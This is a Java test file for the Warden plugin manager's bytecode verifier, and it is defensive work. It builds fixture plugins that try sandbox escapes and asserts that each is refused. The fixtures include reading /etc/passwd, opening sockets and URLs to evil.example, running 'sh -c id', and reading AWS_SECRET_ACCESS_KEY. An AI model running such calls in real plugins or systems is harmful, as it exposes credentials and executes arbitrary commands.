package dev.warden.manager.verify;

import static org.assertj.core.api.Assertions.assertThat;

import dev.warden.manager.testing.FixturePlugin;
import java.io.IOException;
import java.nio.file.Path;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** The escape families of THREATS.md Runtime → Code, each refused naming the member; real plugins pass. */
class BytecodeVerifierTest {

    private static final String START = "start(Ldev/warden/api/PluginContext;)V";

    @TempDir
    Path dir;

    private final BytecodeVerifier verifier = BytecodeVerifier.standard();

    /** A plugin whose start method runs {@code body}. */
    private static String hostilePlugin(String body) {
        return """
                package com.evil;

                import dev.warden.api.Connector;
                import dev.warden.api.PluginContext;
                import dev.warden.api.WardenPlugin;
                import java.util.List;

                public final class Plugin implements WardenPlugin {
                    @Override
                    public void start(PluginContext context) {
                        try {
                            %s
                        } catch (Throwable e) {
                            throw new IllegalStateException(e);
                        }
                    }

                    @Override
                    public List<Connector> connectors() {
                        return List.of();
                    }

                    @Override
                    public void stop() {
                    }
                }
                """.formatted(body);
    }

    static Stream<Arguments> escapesFromStart() {
        return Stream.of(
                Arguments.of("reflection: Method.invoke",
                        "Object.class.getMethod(\"toString\").invoke(context);",
                        "java/lang/reflect/Method.invoke(Ljava/lang/Object;[Ljava/lang/Object;)Ljava/lang/Object;", "reflection"),
                Arguments.of("reflection: Class.forName",
                        "Class.forName(\"dev.warden.manager.cli.WardenMain\");",
                        "java/lang/Class.forName(Ljava/lang/String;)Ljava/lang/Class;", "loads any class"),
                Arguments.of("reflection: getDeclaredField and setAccessible",
                        "java.lang.reflect.Field f = context.getClass().getDeclaredField(\"files\"); f.setAccessible(true);",
                        "java/lang/reflect/Field.setAccessible(Z)V", "reflection"),
                Arguments.of("reflection: Class.getDeclaredField",
                        "context.getClass().getDeclaredField(\"files\");",
                        "java/lang/Class.getDeclaredField(Ljava/lang/String;)Ljava/lang/reflect/Field;", "reflection"),
                Arguments.of("method handles: MethodHandles.lookup",
                        "java.lang.invoke.MethodHandles.lookup().findStatic(System.class, \"exit\","
                                + " java.lang.invoke.MethodType.methodType(void.class, int.class));",
                        "java/lang/invoke/MethodHandles.lookup()Ljava/lang/invoke/MethodHandles$Lookup;", "method handles"),
                Arguments.of("class loaders: new URLClassLoader",
                        "new java.net.URLClassLoader(new java.net.URL[0]).loadClass(\"x\");",
                        "java/net/URLClassLoader", "class loader"),
                Arguments.of("class loaders: Class.getClassLoader",
                        "context.getClass().getClassLoader().loadClass(\"dev.warden.manager.cli.WardenMain\");",
                        "java/lang/Class.getClassLoader()Ljava/lang/ClassLoader;", "class loader"),
                Arguments.of("threads: new Thread",
                        "new Thread(() -> { }).start();",
                        "java/lang/Thread.start()V", "thread"),
                Arguments.of("threads: Executors",
                        "java.util.concurrent.Executors.newSingleThreadExecutor().submit(() -> { });",
                        "java/util/concurrent/Executors.newSingleThreadExecutor()Ljava/util/concurrent/ExecutorService;", "executor"),
                Arguments.of("threads: a parallel stream",
                        "List.of(1, 2).parallelStream().count();",
                        "java/util/List.parallelStream()Ljava/util/stream/Stream;", "shared thread pool"),
                Arguments.of("threads: Object.wait",
                        "synchronized (this) { this.wait(); }",
                        "java/lang/Object.wait()V", "threads"),
                Arguments.of("Unsafe: reflecting on sun.misc.Unsafe.theUnsafe",
                        "java.lang.reflect.Field f = sun.misc.Unsafe.class.getDeclaredField(\"theUnsafe\"); f.setAccessible(true);"
                                + " ((sun.misc.Unsafe) f.get(null)).putLong(0L, 0L);",
                        "sun/misc/Unsafe", "Unsafe reads and writes any memory"),
                Arguments.of("JNI: System.loadLibrary",
                        "System.loadLibrary(\"evil\");",
                        "java/lang/System.loadLibrary(Ljava/lang/String;)V", "JNI"),
                Arguments.of("serialization: ObjectInputStream.readObject",
                        "new java.io.ObjectInputStream(new java.io.ByteArrayInputStream(new byte[0])).readObject();",
                        "java/io/ObjectInputStream.readObject()Ljava/lang/Object;", "deserialization"),
                Arguments.of("ServiceLoader",
                        "java.util.ServiceLoader.load(Runnable.class).findFirst();",
                        "java/util/ServiceLoader.load(Ljava/lang/Class;)Ljava/util/ServiceLoader;", "ServiceLoader"),
                Arguments.of("System.exit",
                        "System.exit(0);",
                        "java/lang/System.exit(I)V", "stops Warden"),
                Arguments.of("System.exit through a method reference",
                        "java.util.function.IntConsumer exit = System::exit; exit.accept(0);",
                        "java/lang/System.exit(I)V", "stops Warden"),
                Arguments.of("files: java.io.File",
                        "new java.io.File(\"/etc/passwd\").exists();",
                        "java/io/File", "Files capability"),
                Arguments.of("files: java.nio.file.Files",
                        "java.nio.file.Files.readString(java.nio.file.Path.of(\"/etc/passwd\"));",
                        "java/nio/file/Files.readString(Ljava/nio/file/Path;)Ljava/lang/String;", "Files capability"),
                Arguments.of("sockets: java.net.Socket",
                        "new java.net.Socket(\"evil.example\", 80).getOutputStream().write(1);",
                        "java/net/Socket", "sockets"),
                Arguments.of("sockets: URL.openConnection",
                        "new java.net.URL(\"http://evil.example/\").openConnection().connect();",
                        "java/net/URL", "network"),
                Arguments.of("processes: ProcessBuilder",
                        "new ProcessBuilder(\"sh\", \"-c\", \"id\").start();",
                        "java/lang/ProcessBuilder", "Exec capability"),
                Arguments.of("processes: Runtime.exec",
                        "Runtime.getRuntime().exec(new String[] {\"sh\"});",
                        "java/lang/Runtime.getRuntime()Ljava/lang/Runtime;", "runs programs"),
                Arguments.of("environment: System.getenv",
                        "System.getenv(\"AWS_SECRET_ACCESS_KEY\");",
                        "java/lang/System.getenv(Ljava/lang/String;)Ljava/lang/String;", "environment variables"),
                Arguments.of("system properties: System.getProperty",
                        "System.getProperty(\"user.home\");",
                        "java/lang/System.getProperty(Ljava/lang/String;)Ljava/lang/String;", "system properties"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("escapesFromStart")
    void refusesEachEscapeNamingTheMember(String family, String body, String member, String reasonWords) throws IOException {
        Path plugin = FixturePlugin.in(dir).source("com.evil.Plugin", hostilePlugin(body)).build();

        VerificationReport report = verifier.verify(plugin);

        assertThat(report.passed()).as(family).isFalse();
        assertThat(report.violations()).as(family).anySatisfy(v -> {
            assertThat(v.className()).isEqualTo("com/evil/Plugin");
            assertThat(v.method()).isEqualTo(START);
            assertThat(v.member()).isEqualTo(member);
            assertThat(v.reason()).contains(reasonWords);
        });
    }

    @Test
    void refusesAPluginClassThatExtendsClassLoader() throws IOException {
        Path plugin = FixturePlugin.in(dir)
                .source("com.evil.Loader", """
                        package com.evil;
                        public final class Loader extends ClassLoader {
                            public Class<?> define(byte[] code) {
                                return defineClass(null, code, 0, code.length);
                            }
                        }
                        """)
                .build();

        VerificationReport report = verifier.verify(plugin);

        assertThat(report.violations()).anySatisfy(v -> {
            assertThat(v.className()).isEqualTo("com/evil/Loader");
            assertThat(v.method()).isEqualTo(Violation.CLASS);
            assertThat(v.member()).isEqualTo("java/lang/ClassLoader");
            assertThat(v.reason()).contains("class loader");
        });
        assertThat(report.violations()).anySatisfy(v -> {
            assertThat(v.method()).isEqualTo("define([B)Ljava/lang/Class;");
            assertThat(v.member()).isEqualTo("com/evil/Loader.defineClass(Ljava/lang/String;[BII)Ljava/lang/Class;");
        });
    }

    @Test
    void refusesAPluginClassThatExtendsThread() throws IOException {
        Path plugin = FixturePlugin.in(dir)
                .source("com.evil.Worker", """
                        package com.evil;
                        public final class Worker extends Thread {
                            public static void go() {
                                new Worker().start();
                            }
                        }
                        """)
                .build();

        VerificationReport report = verifier.verify(plugin);

        assertThat(report.violations()).anySatisfy(v -> {
            assertThat(v.method()).isEqualTo(Violation.CLASS);
            assertThat(v.member()).isEqualTo("java/lang/Thread");
        });
        assertThat(report.violations()).anySatisfy(v -> {
            assertThat(v.method()).isEqualTo("go()V");
            assertThat(v.member()).isEqualTo("com/evil/Worker.start()V");
            assertThat(v.reason()).contains("thread");
        });
    }

    @Test
    void refusesANativeMethodTheClassDeclares() throws IOException {
        Path plugin = FixturePlugin.in(dir)
                .source("com.evil.Native", """
                        package com.evil;
                        public final class Native {
                            static native long peek(long address);
                        }
                        """)
                .build();

        VerificationReport report = verifier.verify(plugin);

        assertThat(report.violations()).singleElement().satisfies(v -> {
            assertThat(v.className()).isEqualTo("com/evil/Native");
            assertThat(v.method()).isEqualTo("peek(J)J");
            assertThat(v.member()).isEqualTo("native code");
            assertThat(v.reason()).contains("JNI");
        });
    }

    @Test
    void refusesHostClassesSuchAsJacksonAsNotThePluginApi() throws IOException {
        Path plugin = FixturePlugin.in(dir)
                .stub("tools.jackson.databind.ObjectMapper", """
                        package tools.jackson.databind;
                        public class ObjectMapper {
                            public String writeValueAsString(Object value) { return ""; }
                        }
                        """)
                .source("com.evil.Json", """
                        package com.evil;
                        public final class Json {
                            public static String write(Object value) {
                                return new tools.jackson.databind.ObjectMapper().writeValueAsString(value);
                            }
                        }
                        """)
                .build();

        VerificationReport report = verifier.verify(plugin);

        assertThat(report.violations()).anySatisfy(v -> {
            assertThat(v.method()).isEqualTo("write(Ljava/lang/Object;)Ljava/lang/String;");
            assertThat(v.member()).isEqualTo("tools/jackson/databind/ObjectMapper.writeValueAsString(Ljava/lang/Object;)Ljava/lang/String;");
            assertThat(v.reason()).isEqualTo("not the plugin API and not part of this plugin");
        });
    }

    @Test
    void refusesWardenOwnClassesAndOtherPluginsClasses() throws IOException {
        Path plugin = FixturePlugin.in(dir)
                .stub("dev.warden.manager.home.Home", """
                        package dev.warden.manager.home;
                        public final class Home {
                            public static String secretsFolder() { return ""; }
                        }
                        """)
                .stub("com.other.Notes", """
                        package com.other;
                        public final class Notes {
                            public static String all() { return ""; }
                        }
                        """)
                .source("com.evil.Reach", """
                        package com.evil;
                        public final class Reach {
                            public static String go() {
                                return dev.warden.manager.home.Home.secretsFolder() + com.other.Notes.all();
                            }
                        }
                        """)
                .build();

        VerificationReport report = verifier.verify(plugin);

        assertThat(report.violations()).extracting(Violation::member).contains(
                "dev/warden/manager/home/Home.secretsFolder()Ljava/lang/String;",
                "com/other/Notes.all()Ljava/lang/String;");
        assertThat(report.violations()).allSatisfy(v -> assertThat(v.reason()).isEqualTo("not the plugin API and not part of this plugin"));
    }

    @Test
    void refusesAnInvokedynamicWithItsOwnBootstrapMethod() throws IOException {
        Path plugin = FixturePlugin.in(dir).file("classes/com/evil/Indy.class", HostileClasses.customBootstrap()).build();

        VerificationReport report = verifier.verify(plugin);

        assertThat(report.violations()).anySatisfy(v -> {
            assertThat(v.className()).isEqualTo("com/evil/Indy");
            assertThat(v.method()).isEqualTo("run()V");
            assertThat(v.member()).isEqualTo("com/evil/Indy.bootstrap" + HostileClasses.BOOTSTRAP_DESCRIPTOR);
            assertThat(v.reason()).contains("invokedynamic may only use the bootstrap methods javac emits");
        });
    }

    @Test
    void refusesMethodHandleAndMethodTypeConstants() throws IOException {
        Path plugin = FixturePlugin.in(dir).file("classes/com/evil/Constants.class", HostileClasses.handleConstants()).build();

        VerificationReport report = verifier.verify(plugin);

        assertThat(report.violations()).extracting(Violation::member).contains(
                "method handle constant java/lang/System.exit(I)V",
                "method type constant (I)V");
    }

    @Test
    void refusesAClassDeclaredInAJdkPackageAndStillChecksReferencesToIt() throws IOException {
        // Were java/lang/reflect/Method "the plugin's own", calls to Method.invoke would pass unchecked.
        Path plugin = FixturePlugin.in(dir)
                .file("classes/java/lang/reflect/Method.class", HostileClasses.emptyClass("java/lang/reflect/Method"))
                .source("com.evil.Plugin", hostilePlugin("Object.class.getMethod(\"toString\").invoke(context);"))
                .build();

        VerificationReport report = verifier.verify(plugin);

        assertThat(report.violations()).anySatisfy(v -> {
            assertThat(v.className()).isEqualTo("java/lang/reflect/Method");
            assertThat(v.member()).isEqualTo("package java/lang/reflect");
        });
        assertThat(report.violations()).extracting(Violation::member)
                .contains("java/lang/reflect/Method.invoke(Ljava/lang/Object;[Ljava/lang/Object;)Ljava/lang/Object;");
    }

    @Test
    void reportsReadAsOneLineNamingClassMethodMemberAndReason() throws IOException {
        Path plugin = FixturePlugin.in(dir)
                .source("com.evil.Plugin", hostilePlugin("Object.class.getMethod(\"toString\").invoke(context);"))
                .build();

        VerificationReport report = verifier.verify(plugin);

        assertThat(report.violations()).extracting(Violation::describe).contains(
                "com/evil/Plugin.start(Ldev/warden/api/PluginContext;)V uses "
                        + "java/lang/reflect/Method.invoke(Ljava/lang/Object;[Ljava/lang/Object;)Ljava/lang/Object;: "
                        + "reflection can reach any class and member, past the capability API");
    }

    @Test
    void passesTheWeatherSamplePlugin() throws IOException {
        Path plugin = FixturePlugin.in(dir).sourceTree(Path.of("../sample-plugins/weather/src/main/java")).build();

        VerificationReport report = verifier.verify(plugin);

        assertThat(report.violations()).isEmpty();
        assertThat(report.passed()).isTrue();
        assertThat(report.classesChecked()).isGreaterThanOrEqualTo(2);
    }

    @Test
    void passesAPluginUsingWhatJavacEmitsForModernJava() throws IOException {
        Path plugin = FixturePlugin.in(dir).source("com.good.Modern", ModernPlugin.SOURCE).build();

        VerificationReport report = verifier.verify(plugin);

        assertThat(report.violations()).isEmpty();
        assertThat(report.classesChecked()).isGreaterThan(5);
    }

    @Test
    void passesASkillsOnlyPluginWithNoCode() throws IOException {
        Path plugin = FixturePlugin.in(dir).file("skills/a/SKILL.md", FixturePlugin.utf8("# A skill\n")).build();

        VerificationReport report = verifier.verify(plugin);

        assertThat(report.passed()).isTrue();
        assertThat(report.classesChecked()).isZero();
    }
}
